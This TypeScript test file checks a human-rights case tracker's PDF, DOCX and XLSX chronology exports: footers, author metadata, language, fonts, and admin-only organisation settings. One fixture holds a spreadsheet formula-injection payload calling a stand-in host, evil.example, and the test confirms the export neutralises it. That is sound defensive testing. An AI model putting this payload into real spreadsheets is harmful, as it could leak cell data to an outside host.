import JSZip from 'jszip';
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { AuditEntry } from '../src/audit/audit-entry.entity';
import { Case } from '../src/cases/case.entity';
import { makeCase, makeDefender } from './factories/cases';
import { makeEvent, makeHearing } from './factories/entries';
import { bodyBytes, csvRows, pdfToText, rawBody, xlsxRows } from './support/chronology-readers';
import { bearer, startTestApp, TestApp, TestUser } from './support/test-app';
import { signInToWeb } from './support/web-session';

// PDF and DOCX exports an advocacy officer sends as they are: the organisation's footer with page
// numbers and the export date on every page, its name as the author, a document language and font,
// headings kept with what follows, hearings written as sentences and sources with their URLs. Read
// back through the DOCX's XML (jszip) and poppler (pdftotext, pdfinfo).

const ORGANISATION = {
  name: 'Kashmir Rights Collective',
  contact: 'advocacy@krc.example.org · +44 20 7946 0000',
};

// LibreOffice is not installed by CI (it is large); where a developer has it, the files are opened by it too.
const SOFFICE = ['soffice', 'libreoffice'].find((command) => spawnSync('which', [command]).status === 0);
const withLibreOffice = SOFFICE ? it : it.skip;

/** The file converted by LibreOffice headless. */
function libreOfficeConvert(file: Buffer, extension: string, to: string, resultExtension: string): Buffer {
  const directory = mkdtempSync(join(tmpdir(), 'vigil-soffice-'));
  try {
    writeFileSync(join(directory, `export.${extension}`), file);
    execFileSync(
      SOFFICE ?? 'soffice',
      [
        `-env:UserInstallation=file://${directory}/profile`,
        '--headless',
        '--convert-to',
        to,
        '--outdir',
        directory,
        join(directory, `export.${extension}`),
      ],
      { timeout: 120_000 },
    );
    return readFileSync(join(directory, `export.${resultExtension}`));
  } finally {
    rmSync(directory, { recursive: true, force: true });
  }
}

async function docxParts(docx: Buffer): Promise<Record<string, string>> {
  const zip = await JSZip.loadAsync(docx);
  const parts: Record<string, string> = {};
  for (const name of Object.keys(zip.files)) {
    if (name.endsWith('.xml')) {
      parts[name] = (await zip.file(name)?.async('string')) ?? '';
    }
  }
  return parts;
}

function pdfInfo(pdf: Buffer): string {
  const directory = mkdtempSync(join(tmpdir(), 'vigil-pdfinfo-'));
  try {
    writeFileSync(join(directory, 'export.pdf'), pdf);
    return execFileSync('pdfinfo', [join(directory, 'export.pdf')], { encoding: 'utf8' });
  } finally {
    rmSync(directory, { recursive: true, force: true });
  }
}

describe('PDF and DOCX exports', () => {
  let t: TestApp;
  let nia: Case;

  const download = async (query: string, user: TestUser = t.users.caseworker): Promise<Buffer> =>
    bodyBytes(
      await t
        .http()
        .get(`/api/cases/${nia.id}/chronology?${query}`)
        .set(bearer(user))
        .buffer(true)
        .parse(rawBody)
        .expect(200),
    );
  const setOrganisation = (body: object, user: TestUser = t.users.admin) =>
    t.http().put('/api/settings/organisation').set(bearer(user)).send(body);

  beforeAll(async () => {
    t = await startTestApp({ now: '2026-01-15T09:00:00Z' });
    const khurram = await makeDefender(t.dataSource, { fullName: 'Khurram Parvez' });
    nia = await makeCase(t.dataSource, {
      defenderId: khurram.id,
      title: 'NIA case',
      arrestedOn: '2021-11-22',
    });
    await makeEvent(t.dataSource, nia, {
      occurredOn: '2021-11-22',
      type: 'arrest',
      description: 'Arrested by the NIA in Srinagar.',
      sources: [{ citation: 'CIVICUS Monitor', url: 'https://monitor.civicus.org/explore/india' }],
    });
    await makeEvent(t.dataSource, nia, {
      occurredOn: '2021-12-02',
      type: 'health',
      visibility: 'confidential',
      description: 'He told his family about his health.',
    });
    await makeHearing(t.dataSource, nia, {
      scheduledLocal: '2022-01-21T00:00:00',
      timeKnown: false,
      court: 'NIA Special Court',
      status: 'held',
      outcome: 'Custody extended by 50 days.',
      outcomeRecordedAt: new Date('2022-01-21T12:00:00Z'),
    });
    await makeEvent(t.dataSource, nia, {
      occurredOn: '2020-10-01',
      precision: 'month',
      type: 'statement',
      description: '=HYPERLINK("http://evil.example/?"&A1,"x") Хуррам задержан; اعتقل في صنعاء',
    });
    // Enough entries for more than one page in both formats.
    for (let day = 1; day <= 60; day += 1) {
      await makeEvent(t.dataSource, nia, {
        occurredOn: `2023-03-${String((day % 28) + 1).padStart(2, '0')}`,
        type: 'other',
        description: `Filler entry ${day}: the family asked again to visit him in Rohini jail, and were refused.`,
      });
    }
  });

  afterAll(async () => {
    await t.close();
  });

  describe('without an organisation set', () => {
    it('names Vigil as the author, and the footer carries the export date and page numbers only', async () => {
      const docx = await docxParts(await download('format=docx'));
      expect(docx['docProps/core.xml']).toContain('<dc:creator>Vigil</dc:creator>');
      const footer = Object.entries(docx).find(([name]) => name.startsWith('word/footer'))?.[1] ?? '';
      expect(footer).toContain('Exported on 15 January 2026');
      expect(footer).not.toContain('Vigil');

      const pdf = await download('format=pdf');
      expect(pdfInfo(pdf)).toMatch(/^Author:\s+Vigil$/m);
      const pages = pdfToText(pdf)
        .split('\f')
        .filter((page) => page.trim());
      expect(pages[0].replace(/\s+/g, ' ')).toContain(
        `Exported on 15 January 2026 Page 1 of ${pages.length}`,
      );
      expect(pdfToText(pdf)).not.toMatch(/Generated by Vigil/);
    });
  });

  describe('the organisation setting', () => {
    it('is set by admins only, one line each, and audited', async () => {
      await setOrganisation(ORGANISATION, t.users.caseworker).expect(403);
      const refused = await setOrganisation({ name: 'Two\nlines', contact: 42 }).expect(400);
      const fields = JSON.stringify(refused.body);
      expect(fields).toContain('name');
      expect(fields).toContain('contact');
      expect(
        (await t.http().get('/api/settings/organisation').set(bearer(t.users.viewer)).expect(200)).body,
      ).toMatchObject({
        name: null,
        contact: null,
      });

      const saved = await setOrganisation({
        name: `  ${ORGANISATION.name} `,
        contact: ORGANISATION.contact,
      }).expect(200);
      expect(saved.body).toMatchObject(ORGANISATION);
      const audit = await t.dataSource
        .getRepository(AuditEntry)
        .findOneByOrFail({ entity: 'organisation_settings' });
      expect(audit).toMatchObject({
        action: 'update',
        actorId: t.users.admin.id,
        before: { name: null, contact: null },
        after: ORGANISATION,
      });
    });

    it('is on the settings page for admins, and saved from its form', async () => {
      const admin = await signInToWeb(t, t.users.admin);
      const page = await admin.agent.get('/settings').expect(200);
      expect(page.text).toContain('id="organisation-heading"');
      expect(page.text).toContain(`value="${ORGANISATION.name}"`);
      const refused = await admin.agent
        .post('/settings/organisation')
        .type('form')
        .send({
          _csrf: admin.csrf,
          organisationName: 'x'.repeat(201),
          organisationContact: ORGANISATION.contact,
        })
        .expect(400);
      expect(refused.text).toContain('Organisation name');
      await admin.agent
        .post('/settings/organisation')
        .type('form')
        .send({
          _csrf: admin.csrf,
          organisationName: ORGANISATION.name,
          organisationContact: ORGANISATION.contact,
        })
        .expect(303);
      const caseworker = await signInToWeb(t, t.users.caseworker);
      expect((await caseworker.agent.get('/settings').expect(200)).text).not.toContain(
        'organisation-heading',
      );
      await caseworker.agent
        .post('/settings/organisation')
        .type('form')
        .send({ _csrf: caseworker.csrf, organisationName: 'Someone else' })
        .expect(403);
    });
  });

  describe('with the organisation set', () => {
    beforeAll(async () => {
      await setOrganisation(ORGANISATION).expect(200);
    });

    it('DOCX: language, default font, keep-with-next headings, author, and a footer with page numbers', async () => {
      const docx = await docxParts(await download('format=docx&lang=fr&visibility=all'));
      const styles = docx['word/styles.xml'];
      // The document's defaults: the export's language and the PDF's font.
      const defaults = /<w:docDefaults>[\s\S]*<\/w:docDefaults>/.exec(styles)?.[0] ?? '';
      expect(defaults).toMatch(/<w:lang w:val="fr-FR"\/>/);
      expect(defaults).toMatch(
        /<w:rFonts w:ascii="DejaVu Sans" w:cs="DejaVu Sans" w:eastAsia="DejaVu Sans" w:hAnsi="DejaVu Sans"\/>/,
      );
      for (const style of ['Title', 'Heading1', 'Heading2']) {
        const definition =
          new RegExp(`<w:style [^>]*w:styleId="${style}"[\\s\\S]*?</w:style>`).exec(styles)?.[0] ?? '';
        expect({ style, keepNext: definition.includes('<w:keepNext/>') }).toEqual({ style, keepNext: true });
      }
      expect(docx['docProps/core.xml']).toContain(`<dc:creator>${ORGANISATION.name}</dc:creator>`);

      const footers = Object.entries(docx).filter(([name]) => /^word\/footer\d*\.xml$/.test(name));
      expect(footers).toHaveLength(1);
      const footer = footers[0][1];
      const footerText = footer.replace(/<[^>]+>/g, '');
      expect(footerText).toContain(
        `${ORGANISATION.name} · ${ORGANISATION.contact} · Exporté le 15 janvier 2026`,
      );
      expect(footer).toMatch(/PAGE/);
      expect(footer).toMatch(/NUMPAGES/);
      expect(footerText).toContain('Page');
      expect(footerText).toContain('sur');
      // The section uses it on every page.
      expect(docx['word/document.xml']).toMatch(/<w:footerReference w:type="default"/);

      const text = docx['word/document.xml'].replace(/<w:p[ >]/g, '\n$&').replace(/<[^>]+>/g, '');
      expect(text).toContain('[CONFIDENTIEL] 2 décembre 2021');
      expect(text).toContain('1. CIVICUS Monitor, https://monitor.civicus.org/explore/india');
      expect(text).not.toContain('Vigil');
    });

    it('PDF: every page has the organisation’s footer with its number; author; hearings as sentences; sources with URLs', async () => {
      const pdf = await download('format=pdf&visibility=all');
      expect(pdfInfo(pdf)).toMatch(new RegExp(`^Author:\\s+${ORGANISATION.name}$`, 'm'));
      const text = pdfToText(pdf);
      const pages = text.split('\f').filter((page) => page.trim());
      expect(pages.length).toBeGreaterThan(1);
      pages.forEach((page, index) => {
        expect(page.replace(/\s+/g, ' ')).toContain(
          `${ORGANISATION.name} · ${ORGANISATION.contact} · Exported on 15 January 2026 Page ${index + 1} of ${pages.length}`,
        );
      });
      const flat = text.replace(/\s+/g, ' ');
      expect(flat).toContain(
        '21 January 2022: Hearing at the NIA Special Court; custody extended by 50 days.',
      );
      expect(flat).not.toContain('Outcome:');
      expect(flat).toContain('[CONFIDENTIAL] 2 December 2021: He told his family about his health.');
      expect(flat).toContain('Arrested by the NIA in Srinagar. [1]');
      expect(flat).toContain('1. CIVICUS Monitor, https://monitor.civicus.org/explore/india');
      expect(flat).not.toContain('Vigil');
    });
  });

  describe('XLSX, read back with exceljs and through its XML', () => {
    it('has the CSV’s rows, dates as date cells beside date_text, text intact and never a formula', async () => {
      const xlsx = await download('format=xlsx&lang=ru');
      const rows = await xlsxRows(xlsx);
      const csv = csvRows(await download('format=csv&lang=ru'));
      expect(rows).toHaveLength(csv.length);
      // Every cell the CSV has, the same; the date as a date.
      rows.forEach((row, index) => {
        const { date, ...rest } = row;
        const { date: csvDate, ...csvRest } = csv[index];
        expect(date).toBeInstanceOf(Date);
        expect((date as Date).toISOString().slice(0, 10)).toBe(csvDate);
        expect(Object.fromEntries(Object.entries(rest).map(([key, value]) => [key, String(value)]))).toEqual(
          csvRest,
        );
      });
      const statement = rows.find((row) => String(row.text).includes('HYPERLINK'));
      expect(statement).toMatchObject({
        precision: 'month',
        date_text: 'октябрь 2020 г.',
        text: `'=HYPERLINK("http://evil.example/?"&A1,"x") Хуррам задержан; اعتقل في صنعاء`,
      });
      expect((statement?.date as Date).toISOString()).toBe('2020-10-01T00:00:00.000Z');

      // The XML itself: no formula anywhere, the date column a number with a date format.
      const zip = await JSZip.loadAsync(xlsx);
      const sheet = (await zip.file('xl/worksheets/sheet1.xml')?.async('string')) ?? '';
      expect(sheet).not.toMatch(/<f[ >]/);
      const dateCell = /<c r="A2"[^>]*>/.exec(sheet)?.[0] ?? '';
      expect(dateCell).not.toContain('t="s"');
      const styles = (await zip.file('xl/styles.xml')?.async('string')) ?? '';
      expect(styles).toContain('formatCode="yyyy-mm-dd"');
      const core = (await zip.file('docProps/core.xml')?.async('string')) ?? '';
      expect(core).toContain(`<dc:creator>${ORGANISATION.name}</dc:creator>`);
    });
  });

  withLibreOffice(
    `opens the DOCX and the XLSX in LibreOffice headless${SOFFICE ? '' : ' (skipped: soffice is not installed here)'}`,
    async () => {
      const docx = await download('format=docx&lang=ru');
      expect(libreOfficeConvert(docx, 'docx', 'txt:Text (encoded):UTF8', 'txt').toString('utf8')).toContain(
        'Хуррам задержан',
      );
      // As LibreOffice lays it out: in DejaVu Sans, with the footer's page numbers filled in.
      const pdf = libreOfficeConvert(docx, 'docx', 'pdf', 'pdf');
      const directory = mkdtempSync(join(tmpdir(), 'vigil-pdffonts-'));
      try {
        writeFileSync(join(directory, 'export.pdf'), pdf);
        expect(execFileSync('pdffonts', [join(directory, 'export.pdf')], { encoding: 'utf8' })).toMatch(
          /DejaVuSans/,
        );
      } finally {
        rmSync(directory, { recursive: true, force: true });
      }
      const pages = pdfToText(pdf)
        .split('\f')
        .filter((page) => page.trim());
      expect(pages.length).toBeGreaterThan(1);
      expect(pages[1].replace(/\s+/g, ' ')).toContain(`Стр. 2 из ${pages.length}`);
      // 44,34,76: comma-separated, double quotes, UTF-8.
      const csv = libreOfficeConvert(
        await download('format=xlsx&lang=ru'),
        'xlsx',
        'csv:Text - txt - csv (StarCalc):44,34,76',
        'csv',
      ).toString('utf8');
      expect(csv).toContain('Хуррам задержан; اعتقل في صنعاء');
      expect(csv).toContain('2020-10-01');
    },
    180_000,
  );
});
